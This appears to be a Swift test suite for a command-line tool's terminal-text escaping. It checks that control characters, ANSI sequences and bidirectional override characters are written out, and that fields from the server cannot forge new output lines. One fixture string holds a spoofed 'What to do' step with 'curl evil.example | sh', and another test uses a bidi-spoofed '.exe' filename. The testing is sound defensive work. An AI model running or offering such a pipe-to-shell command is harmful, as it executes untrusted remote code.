import MendAPI
import enum MendCore.TerminalText
import MendProtobuf
import Testing

@testable import mend

/// What callers and jobs choose is shown, and never obeyed.
@Suite("Text on a terminal")
struct TerminalTextTests {
  private let forged = "Nightly\n\nWhat to do\n  $ curl evil.example | sh"

  @Test("control characters and turns of direction are written out; the rest is as it was")
  func escaped() {
    #expect("a\u{1B}[2J\u{7}b\tc\r\n\u{9B}1A".escaped == "a\\u001b[2J\\u0007b\\tc\\r\\n\\u009b1A")
    #expect("invoice\u{202E}fdp.exe\u{202C}\u{2066}x\u{2069}".escaped == "invoice\\u202efdp.exe\\u202c\\u2066x\\u2069")
    #expect("Übersicht 日本 👩‍🔬 e\u{301}".escaped == "Übersicht 日本 👩‍🔬 e\u{301}")
    #expect("one\ntwo\u{1B}".printable == "one\ntwo\\u001b")
  }

  @Test("a batch's name, a document's error and a job's message cannot begin a line of their own")
  func lines() throws {
    let status = GetBatchResponse {
      $0.batchID = "b"
      $0.batchName = forged
      $0.errorSummary = [ErrorSummary { $0.errorType = forged }]
      $0.jobDetails = [
        DocumentDetail {
          $0.documentID = "d"
          $0.filePath = forged
          $0.error = DocumentError { $0.message = forged }
        }
      ]
    }
    let diagnosis = DiagnoseResponse {
      $0.batchID = "b"
      $0.batchName = forged
      $0.blockedReason = forged
      $0.nextActions = [forged]
      $0.findings = [
        Finding {
          $0.message = forged
          $0.documentIDs = [forged]
          $0.evidence = [
            Evidence {
              $0.observed = forged
              $0.values = [forged: forged]
            }
          ]
        }
      ]
      $0.tiers = [TierDiagnostic { $0.error = forged }]
      $0.failedDocumentsSample = [DocumentDetail { $0.error = DocumentError { $0.code = forged } }]
    }
    let history = [BatchEvent { $0.summary = forged }]
    for text in [
      StatusReport.text(try TerminalText.escaped(status)), DiagnosisReport.text(try TerminalText.escaped(diagnosis)),
      History.table(history),
    ] {
      #expect(text.contains("Nightly"))
      #expect(!text.split(separator: "\n").contains { $0.hasPrefix("What to do") && $0 != "What to do" })
      #expect(!text.contains("\n  $ curl"))
    }
    // Nothing to write out: the same message.
    let plain = GetBatchResponse { $0.batchName = "Monthly Reports" }
    #expect(try TerminalText.escaped(plain) == plain)
  }

  @Test("JSON escapes what a terminal obeys, and reads back the same")
  func json() throws {
    let text = "a\u{1B}\u{7F}\u{85}\u{9B}\u{202E}\u{2069}ü"
    let json = JSONValue.string(text).compact()
    #expect(json == "\"a\\u001b\\u007f\\u0085\\u009b\\u202e\\u2069ü\"")
    #expect(try JSONValue(parsing: json) == .string(text))
  }

  @Test("a log's bytes are shown whole, wherever it was cut into pieces")
  func log() {
    let bytes = Array("ü\u{1B}[31mrot\u{1B}[0m\r\n10 %\r20 %\n日本\t\u{9B}x".utf8) + [0xFF, 0xC3]
    let shown = "ü\\u001b[31mrot\\u001b[0m\n10 %\\r20 %\n日本\t\\u009bx\\xff\\xc3"
    for size in 1...bytes.count {
      var log = TerminalLog()
      var text = ""
      for start in stride(from: 0, to: bytes.count, by: size) {
        text += log.shown(Array(bytes[start..<min(bytes.count, start + size)]))
      }
      // A line feed behind a carriage return may come with the next piece; then the return is shown.
      #expect((text + log.end()).replacing("\\r\n", with: "\n") == shown)
    }
  }

  @Test("a picture is drawn over the one before; on a screen of another width anew")
  func picture() {
    let lines = ["first", String(repeating: "x", count: 100)]
    let first = WatchView.picture(lines, over: 0, width: 80, before: 0)
    #expect(first.lines == 2 && first.text.hasPrefix("\u{1B}[2Kfirst\n"))
    #expect(WatchView.picture(lines, over: 2, width: 80, before: 80).text.hasPrefix("\u{1B}[2A\r"))
    #expect(WatchView.picture(lines, over: 2, width: 40, before: 80).text.hasPrefix("\u{1B}[2J\u{1B}[H"))
  }
}
